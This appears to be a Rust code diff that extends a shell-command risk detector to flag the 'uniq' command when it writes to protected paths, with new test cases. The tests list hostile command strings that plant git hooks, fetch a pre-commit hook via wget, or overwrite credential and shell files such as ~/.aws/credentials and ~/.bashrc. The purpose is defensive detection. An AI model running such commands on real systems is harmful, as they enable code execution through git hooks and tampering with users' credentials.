@@ -76,6 +76,7 @@ pub(super) fn list_written(name: &str, arguments: &[String]) -> Vec<String> {
             let prefix = operands_without_values(arguments, "abCln").get(1).map(|prefix| (*prefix).clone());
             vec![prefix.unwrap_or_default()]
         }
+        "uniq" => operands_without_values(arguments, "fsw").iter().skip(1).map(|it| (*it).clone()).collect(),
         "ed" | "emacs" | "nano" | "red" => operands().collect(),
         // `-c 'w FILE'`
         _ if name != "view" && EDITORS.contains(&name) => {
@@ -421,6 +422,8 @@ mod tests {
             "git clone ../evil .git/hooks",
             "cp -r sub/.git .",
             "find . -fprint .git/hooks/pre-commit",
+            "echo x | uniq - .git/config",
+            "uniq -f 1 a .git/config",
             "wget -P .git/hooks https://x/pre-commit",
             "cd .git/hooks && wget https://x/pre-commit",
         ] {
@@ -529,6 +532,7 @@ mod tests {
             "true && env X=1 tee ~/.kube/config",
             "find . -name x -exec cp {} ~/.aws/credentials \\;",
             "echo \"$(tee ~/.docker/config.json)\"",
+            "uniq a ~/.bashrc",
         ] {
             assert_eq!(risk_in_work(line).as_deref(), Some(Protection::Home.reason()), "{line}");
         }
